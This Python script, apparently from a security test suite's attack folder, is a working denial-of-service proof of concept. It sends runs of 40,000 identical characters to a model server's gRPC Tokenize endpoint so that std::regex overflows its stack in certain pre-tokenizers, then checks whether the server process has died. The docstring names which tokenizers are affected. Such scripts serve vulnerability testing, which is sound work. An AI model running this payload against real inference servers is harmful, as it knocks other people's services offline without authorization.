"""F1: ENDS A VULNERABLE SERVER: 40,000 like characters overflow the stack of std::regex.

Reached with pre-tokenisers without a hand-written splitter: gpt-4o (gpt-oss), deepseek-v3, tekken
(Mistral), falcon, the default and others; `server.py` serves a copy of a demo model with one.
Bound: alive.
"""

from __future__ import annotations

import time
from typing import Any

import grpc
from tests.attacks.common import GENERATION, OPTIONS, arguments, field, is_alive, metadata, verdict

args = arguments(__doc__, characters=40_000)
n = min(args.characters, 1_000_000)
RUNS = {
    "!": "!",
    "a": "a",
    "blank": " ",
    "A": "A",
    "digit": "7",
    "han": "\u4e00",
    "newline": "\n",
    "aA": "aA",
}
killed = ""
started = time.monotonic()
for name, unit in RUNS.items():
    message = field(2, (unit * (n // len(unit))).encode())
    with grpc.insecure_channel(args.target, OPTIONS) as channel:
        try:
            call: Any = channel.unary_unary(GENERATION + "Tokenize")
            call(message, timeout=20 * args.patience, metadata=metadata(args.key))
        except grpc.RpcError as error:
            if error.code() is grpc.StatusCode.UNAVAILABLE and not is_alive(args.target):
                killed = name
                break
alive = is_alive(args.target)
seconds = time.monotonic() - started
verdict(
    "a06_long_run_ends_process",
    not alive,
    f"{n} characters; "
    + (f"run of {killed!r}: the server is gone" if killed else f"server alive: {alive}")
    + f" after {seconds:.1f} s",
)
